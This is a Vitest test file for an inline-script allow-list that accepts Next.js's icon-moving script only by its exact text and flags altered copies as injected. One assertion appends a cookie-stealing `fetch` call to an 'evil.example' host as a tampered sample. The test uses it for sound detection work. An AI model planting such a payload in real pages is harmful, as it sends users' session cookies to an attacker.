import { describe, expect, it } from "vitest";
import { isIconReinsert, nextIconReinsertScript } from "../host/next-internals.ts";
import { allowedScriptShape, scanInlineScripts } from "../host/script-allow-list.ts";

// The script Next writes after a dashboard page's streamed metadata to move the icons into <head>:
// allowed by its exact text as the installed Next writes it, so a document carrying it is not
// reported as injected (and an altered copy is).

describe("Next's icon-moving script", () => {
  it("is read from the installed Next build", () => {
    // Null would mean Next no longer writes it (or moved it): the shape would then allow nothing.
    expect(nextIconReinsertScript()).toMatch(/^document\.querySelectorAll\('body link\[rel="icon"\], body link\[rel="apple-touch-icon"\]'\)\.forEach\(/);
  });

  it("is allowed by its exact text only", () => {
    const script = nextIconReinsertScript()!;
    expect(allowedScriptShape(script)).toBe("next-icon-reinsert");
    expect(isIconReinsert(`${script};fetch("https://evil.example/"+document.cookie)`)).toBe(false);
    expect(allowedScriptShape(script.replace("document.head", "document.body"))).toBeNull();
    const html = `<!DOCTYPE html><html><head></head><body><main>x</main><script>${script}</script></body></html>`;
    expect(scanInlineScripts(html).unknown).toEqual([]);
  });
});
